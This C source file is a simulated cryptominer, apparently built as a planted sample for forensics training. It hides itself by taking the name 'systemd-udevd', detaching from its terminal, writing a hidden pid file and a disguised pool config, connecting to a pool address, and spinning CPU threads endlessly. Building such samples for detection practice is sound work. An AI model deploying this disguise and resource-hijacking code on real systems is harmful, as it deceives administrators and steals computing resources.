/* miner.c: the cryptominer planted in kdw's sample dump.
 * Run from a memfd by memexec (so its executable is "/memfd:... (deleted)"),
 * it names itself "systemd-udevd" (PR_SET_NAME, before the threads start, so
 * every thread carries the name), detaches (one fork + setsid, reparented to
 * init, no tty), reserves 1 GiB of anonymous memory and touches 4 MiB of it
 * (a RandomX-style scratchpad: large VSZ, small RSS), keeps its "pool"
 * sockets (a UDP socket connected to 10.0.2.2:3333 and a TCP connect to
 * 10.0.2.2:14444 that never completes) and its config file open, writes its
 * pid to /run/.udevd.pid and busy-spins NTHREADS threads (default 4).
 * usage: miner [NTHREADS] */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile unsigned long nonce[64 * 8];

static void *hash_worker(void *arg)
{
	unsigned long id = (unsigned long)arg;
	unsigned long a = 0x243f6a8885a308d3UL ^ id, b = 0x13198a2e03707344UL;

	for (;;) {		/* splitmix-like mixing loop, never sleeps */
		a += 0x9e3779b97f4a7c15UL;
		b ^= a;
		b = (b ^ (b >> 30)) * 0xbf58476d1ce4e5b9UL;
		nonce[id * 8] = b ^ (b >> 31);
	}
	return NULL;
}

static void pool_sockets(void)
{
	struct sockaddr_in a;
	int u, t;

	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_addr.s_addr = inet_addr("10.0.2.2");
	a.sin_port = htons(3333);
	u = socket(AF_INET, SOCK_DGRAM, 0);
	if (u >= 0 && connect(u, (struct sockaddr *)&a, sizeof(a)) == 0)
		(void)!write(u, "{\"method\":\"login\"}\n", 19);
	a.sin_port = htons(14444);
	t = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (t >= 0)
		(void)connect(t, (struct sockaddr *)&a, sizeof(a));
}

int main(int argc, char **argv)
{
	int n = argc > 1 ? atoi(argv[1]) : 4;
	pthread_t th;
	char *pad;
	long i;
	int fd;
	FILE *f;

	if (n < 1 || n > 32)
		n = 4;
	prctl(PR_SET_NAME, "systemd-udevd", 0, 0, 0);
	if (fork() > 0)
		_exit(0);
	setsid();
	if (chdir("/") != 0)
		_exit(1);
	fd = open("/dev/null", O_RDWR);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	if (fd > 2)
		close(fd);
	pad = mmap(NULL, 1UL << 30, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (pad == MAP_FAILED)
		return 1;
	memset(pad, 0x5a, 4UL << 20);
	mkdir("/run/udev", 0755);
	fd = open("/run/udev/.rules.json", O_CREAT | O_RDWR | O_TRUNC, 0600);
	if (fd >= 0)
		dprintf(fd, "{\"pool\":\"10.0.2.2:14444\",\"algo\":\"rx/0\",\"threads\":%d}\n", n);
	pool_sockets();
	f = fopen("/run/.udevd.pid", "w");
	if (f) {
		fprintf(f, "%d\n", getpid());
		fclose(f);
	}
	for (i = 1; i < n; i++)
		pthread_create(&th, NULL, hash_worker, (void *)i);
	hash_worker((void *)0);
	return 0;
}
